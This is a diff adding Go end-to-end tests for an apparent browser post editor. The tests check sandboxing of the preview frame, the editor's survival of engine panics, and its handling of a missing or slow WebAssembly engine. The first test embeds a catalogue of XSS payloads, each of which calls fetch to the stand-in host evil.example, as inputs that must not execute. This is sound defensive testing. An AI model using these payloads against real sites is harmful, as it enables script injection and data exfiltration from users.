@@ -1,0 +1,129 @@
+package e2e
+
+import (
+	"bytes"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestNothingInAPostRuns(t *testing.T) {
+	p := open(t, visit{})
+	p.allow("Blocked script execution") // the frame says what it did not run
+	p.allow("Content Security Policy")
+	p.allow("nowhere.png") // an image that fails, so that its onerror would run
+	p.waitReady()
+	ran := func(how string) string {
+		return `(parent.ran ??= []).push('` + how + `'),(top.ran ??= []).push('` + how + `'),fetch('http://evil.example/` + how + `'),alert('` + how + `')`
+	}
+	p.replaceAll(post(strings.Join([]string{
+		"<script>" + ran("script") + "</script>",
+		`<img src="nowhere.png" onerror="` + ran("onerror") + `">`,
+		`<svg onload="` + ran("svg") + `"><script>` + ran("svg-script") + `</script></svg>`,
+		`<a id="link" href="javascript:` + ran("href") + `">link</a> [markdown](javascript:` + ran("markdown") + `)`,
+		`<div id="click" onclick="` + ran("onclick") + `">click</div>`,
+		`<iframe srcdoc="<script>` + ran("srcdoc") + `</script>"></iframe>`,
+		`<form action="javascript:` + ran("form") + `"><button id="send">send</button></form>`,
+		`<details open ontoggle="` + ran("ontoggle") + `">details</details>`,
+		`<style onload="` + ran("style") + `">p { color: inherit }</style>`,
+		`<meta http-equiv="refresh" content="0;url=javascript:` + ran("refresh") + `">`,
+		`<math href="javascript:` + ran("math") + `">m</math>`,
+		`$$\href{javascript:` + ran("mathjax") + `}{x}$$`,
+		"the end",
+	}, "\n\n")))
+	p.waitPreview("the end")
+	for _, id := range []string{"link", "click", "send"} {
+		eval[any](p, frame+`.getElementById(%s)?.click()`, id)
+	}
+	eval[any](p, `[...`+frame+`.querySelectorAll("a")].forEach(a => a.click())`)
+	p.write("\n\nafter all")
+	p.waitPreview("after all")
+	require.Empty(t, eval[[]string](p, `window.ran ?? []`))
+	require.True(t, strings.HasPrefix(eval[string](p, `location.href`), p.url), "the page is still ours")
+}
+
+// alter changes one file of the site on its way to the browser.
+func alter(name string, change func([]byte) []byte) func(http.Handler) http.Handler {
+	return func(site http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if r.URL.Path != mount+name {
+				site.ServeHTTP(w, r)
+				return
+			}
+			r.Header.Del("Accept-Encoding")
+			answer := httptest.NewRecorder()
+			site.ServeHTTP(answer, r)
+			w.Header().Set("Content-Type", answer.Header().Get("Content-Type"))
+			if data := change(answer.Body.Bytes()); data != nil {
+				w.Write(data)
+				return
+			}
+			http.NotFound(w, r)
+		})
+	}
+}
+
+func TestAPanicInTheEngineIsShownAndSurvived(t *testing.T) {
+	// A call without its arguments makes the engine itself panic, behind its own door.
+	provoke := []byte(`
+;{ const door = globalThis; let real
+Object.defineProperty(door, "daylog", { get: () => real && { ...real, update: (...args) => real.update(...(String(args[0]).includes("PANIC") ? [] : args)) }, set: v => { real = v } }) }`)
+	p := open(t, visit{serve: alter("worker.js", func(js []byte) []byte { return bytes.Join([][]byte{provoke, js}, []byte("\n")) })})
+	p.waitReady()
+	p.replaceAll(post("before"))
+	p.waitPreview("before")
+	p.write(" PANIC")
+	p.wait(`!document.querySelector(".Banner").hidden`)
+	require.Contains(t, p.lines(), "before PANIC", "the text is safe")
+	p.waitSaved()
+	for range " PANIC" {
+		p.press("Backspace")
+	}
+	p.typeText(" and after")
+	p.waitPreview("before and after")
+}
+
+func TestWithoutItsEngineTheTextIsStillSafe(t *testing.T) {
+	for name, broken := range map[string]func([]byte) []byte{
+		"missing": func([]byte) []byte { return nil },
+		"damaged": func(wasm []byte) []byte { return wasm[:len(wasm)/2] },
+	} {
+		t.Run(name, func(t *testing.T) {
+			p := open(t, visit{serve: alter("engine.wasm", broken)})
+			p.allow("engine.wasm")
+			p.wait(`document.documentElement.dataset.state == "failed"`)
+			p.wait(`!document.querySelector(".Banner").hidden`)
+			p.replaceAll(post("still here"))
+			p.waitSaved()
+			_, got := p.download(func() { p.press("Mod+Shift+S") })
+			require.Equal(t, post("still here"), string(got))
+			p.reload()
+			p.wait(`document.documentElement.dataset.state == "failed"`)
+			require.Equal(t, post("still here"), p.lines())
+		})
+	}
+}
+
+func TestTypingDoesNotWaitForTheEngine(t *testing.T) {
+	arrived := make(chan struct{})
+	slow := func(site http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if strings.HasSuffix(r.URL.Path, "engine.wasm") {
+				<-arrived
+			}
+			site.ServeHTTP(w, r)
+		})
+	}
+	p := open(t, visit{serve: slow})
+	p.wait(`document.querySelector(".cm-content")`)
+	p.write("typed early")
+	require.Contains(t, p.lines(), "typed early")
+	require.Equal(t, "loading", eval[string](p, `document.documentElement.dataset.state`))
+	close(arrived)
+	p.waitReady()
+	p.waitPreview("typed early")
+	require.Contains(t, p.lines(), "typed early", "what was typed early stayed")
+}
